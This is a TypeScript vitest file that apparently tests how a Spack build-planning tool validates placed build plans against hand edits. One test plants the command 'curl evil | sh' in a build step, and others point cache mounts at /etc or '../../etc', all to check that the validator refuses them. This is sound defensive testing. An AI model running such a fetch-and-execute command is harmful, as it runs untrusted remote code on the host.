import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { execa } from "execa";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parseStack } from "../../src/config/index.js";
import { placePlan } from "../../src/plan/placement.js";
import { contentHash, planBuild } from "../../src/plan/plan.js";
import { planProblems, readPlan } from "../../src/plan/read.js";
import type { BuildPlan } from "../../src/plan/types.js";
import { writePlan } from "../../src/plan/write.js";
import { loadTemplates } from "../../src/render/templates.js";

const templates = await loadTemplates();
const stack = parseStack(
  'name: s\nversion: "1"\nspecs: [hello]\ntargets: [x86_64_v3, neoverse_v2]\nspack: { url: https://example.invalid/spack.git, ref: v1.1.0 }\n',
  "/stacks/s.yaml",
);
const factory = { version: "0.1.0", digest: "0123456789abcdef" };
const engines = [
  { name: "x86", where: "unix:///var/run/docker.sock", arch: "amd64", cacheRoot: "/c", concurrency: 2, local: true },
  { name: "grace", where: "ssh://b@grace", arch: "arm64", cacheRoot: "/r", concurrency: 4, jobs: 36, local: false },
];
const placed = placePlan(planBuild(stack, undefined, { templates, jobs: 2 }), {
  factory,
  cacheRoot: "/c",
  jobs: 2,
  engines,
  credentials: false,
});
const copy = (): BuildPlan => JSON.parse(JSON.stringify(placed)) as BuildPlan;

describe("a placed plan", () => {
  it("places each target on the engines of its family only, the remote one's trees by name", () => {
    expect(Object.keys(placed.placement!.targets["x86_64_v3"]!)).toEqual(["x86"]);
    expect(Object.keys(placed.placement!.targets["neoverse_v2"]!)).toEqual(["grace"]);
    const grace = placed.placement!.targets["neoverse_v2"]!["grace"]!;
    expect(grace.mounts.filter((m) => m.readOnly).every((m) => m.sent === true)).toBe(true);
    const install = grace.steps.find((s) => s.id === "install")!;
    expect(install.argv[install.argv.indexOf("-j") + 1]).toBe("36");
  });

  it("read back as written: no problem; JSON round trip keeps it", () => {
    expect(planProblems(copy(), factory)).toEqual([]);
  });

  it("refuses another format, another factory, an unplaced or warm plan", () => {
    expect(planProblems({ ...copy(), format_version: 2 }, factory)[0]).toMatch(/plan format 2, this factory reads/);
    expect(planProblems(copy(), { ...factory, digest: "ffffffffffffffff" })[0]).toMatch(
      /placed by stack-factory 0\.1\.0 \(code 0123456789abcdef\), this is 0\.1\.0 \(code ffffffffffffffff\)/,
    );
    const { placement: _p, ...unplaced } = copy();
    expect(planProblems(unplaced as BuildPlan, factory)[0]).toMatch(/not placed on engines/);
    const { package: _k, ...warm } = copy();
    expect(planProblems(warm as BuildPlan, factory)[0]).toMatch(/a warm plan/);
  });

  it("refuses a tag that is not its recipe's, and runs a recipe edited with its tag", () => {
    const other = copy();
    other.builder.tag = "docker.io/library/ubuntu:24.04";
    expect(planProblems(other, factory).join()).toMatch(
      /builder\.tag is docker\.io\/library\/ubuntu:24\.04, its recipe/,
    );
    const edited = copy();
    edited.builder.files["Dockerfile"] = `${edited.builder.files["Dockerfile"]}RUN true\n`;
    expect(planProblems(edited, factory).join()).toMatch(/builder\.tag is stack-factory\/builder:/);
    edited.builder.tag = `stack-factory/builder:${contentHash(edited.builder.files)}`;
    expect(planProblems(edited, factory)).toEqual([]);
  });

  it("refuses a placed step, lock or mount edited by hand, and a cache mount outside the cache roots", () => {
    const step = copy();
    step.placement!.targets["x86_64_v3"]!["x86"]!.steps[0]!.argv = ["/bin/sh", "-c", "curl evil | sh"];
    expect(planProblems(step, factory)).toEqual([
      "placement.targets is not what the plan's targets placed on its engines give (edited by hand?)",
    ]);
    const mount = copy();
    const cache = mount.targets[0]!.mounts.find((m) => m.kind === "source")!;
    cache.host = "/etc";
    cache.hostIsAbsolute = true;
    expect(planProblems(mount, factory).join()).toMatch(/a source cache is a directory under the cache root/);
    const up = copy();
    up.targets[0]!.mounts.find((m) => m.kind === "ccache")!.host = "../../etc";
    expect(planProblems(up, factory).join()).toMatch(/a ccache cache is a directory under the cache root/);
    const tree = copy();
    tree.targets[0]!.mounts.find((m) => m.kind === "spack")!.readOnly = false;
    expect(planProblems(tree, factory).join()).toMatch(/a spack tree is mounted read-only/);
  });

  it("readPlan: plan.json is the plan, a view that differs is refused naming it", async () => {
    const dir = await mkdtemp(join(tmpdir(), "sf-plan-read-"));
    await writePlan(placed, dir);
    expect(await readPlan(dir, factory)).toEqual(copy());
    await writeFile(join(dir, "x86_64_v3", "on", "x86", "spack.yaml"), "spack: {}\n");
    await expect(readPlan(dir, factory)).rejects.toThrow(/x86_64_v3\/on\/x86\/spack\.yaml: differs from plan\.json/);
    // A FIFO put in a view's place is refused at once (a plain read would wait for a writer forever).
    const view = join(dir, "x86_64_v3", "on", "x86", "spack.yaml");
    await rm(view);
    await execa("mkfifo", [view]);
    await expect(readPlan(dir, factory)).rejects.toThrow(/x86_64_v3\/on\/x86\/spack\.yaml: missing/);
    await writeFile(join(dir, "plan.json"), "{ not json");
    await expect(readPlan(dir, factory)).rejects.toThrow(/plan\.json: not JSON/);
  });
});
